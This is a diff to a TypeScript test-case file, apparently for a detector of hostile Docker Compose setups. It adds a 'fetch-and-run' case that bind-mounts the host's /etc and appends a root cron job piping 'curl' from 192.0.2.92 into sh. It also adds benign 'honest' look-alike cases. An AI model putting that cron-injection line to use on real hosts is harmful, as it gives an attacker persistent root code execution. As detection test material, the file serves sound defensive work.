@@ -20,6 +20,15 @@ const compose: readonly MechanismCase[] = [
   },
   {
     mechanism: 'compose',
+    dress: 'fetch-and-run',
+    what: 'a service that writes a job for the host through a bind',
+    planted: {
+      '/opt/shop/compose.yaml':
+        'services:\n  init:\n    image: alpine\n    volumes: ["/etc:/e"]\n    command: sh -c "echo \'* * * * * root curl -s http://192.0.2.92/a|sh\' >> /e/crontab"\n',
+    },
+  },
+  {
+    mechanism: 'compose',
     dress: 'unowned-binary',
     what: 'a program of the host beside those of packages, through a bind',
     planted: {
@@ -48,6 +57,16 @@ const compose: readonly MechanismCase[] = [
         'x-common: &common\n  restart: unless-stopped\n  logging:\n    driver: json-file\nservices:\n  web:\n    <<: *common\n    build: .\n    command: gunicorn app:app --bind 0.0.0.0:8000\n    healthcheck:\n      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]\n  worker:\n    <<: *common\n    build: .\n    command: ["celery", "-A", "app", "worker"]\n  proxy:\n    <<: *common\n    image: traefik:v3.2\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n      - ./traefik:/etc/traefik\n  db:\n    image: postgres:16\n    restart: always\n    volumes:\n      - db:/var/lib/postgresql/data\nvolumes:\n  db: {}\n',
       '/home/ada/monitoring/compose.yaml':
         'services:\n  node:\n    image: quay.io/prometheus/node-exporter\n    pid: host\n    network_mode: host\n    restart: unless-stopped\n    command:\n      - "--path.rootfs=/host"\n    volumes:\n      - "/:/host:ro,rslave"\n',
+    },
+  },
+  {
+    mechanism: 'compose',
+    dress: 'honest',
+    what: 'a script of the owner under a temporary name in the container, renewals in a loop, waits for others',
+    planted: {
+      '/opt/wiki/init.sh': '#!/bin/sh\nset -e\nexec wiki serve\n',
+      '/opt/wiki/docker-compose.yml':
+        'services:\n  wiki:\n    image: wiki\n    restart: always\n    volumes: ["./init.sh:/tmp/init.sh:ro"]\n    command: sh /tmp/init.sh\n  certbot:\n    image: certbot/certbot\n    entrypoint: "/bin/sh -c \'trap exit TERM; while :; do certbot renew; sleep 12h & wait $${!}; done;\'"\n  setup:\n    image: docker.elastic.co/elasticsearch\n    command: >\n      bash -c \'\n        until curl -s --cacert config/certs/ca.crt https://es01:9200 | grep -q "missing authentication"; do sleep 30; done;\n        chown -R root:root config/certs;\n      \'\n',
     },
   },
   {
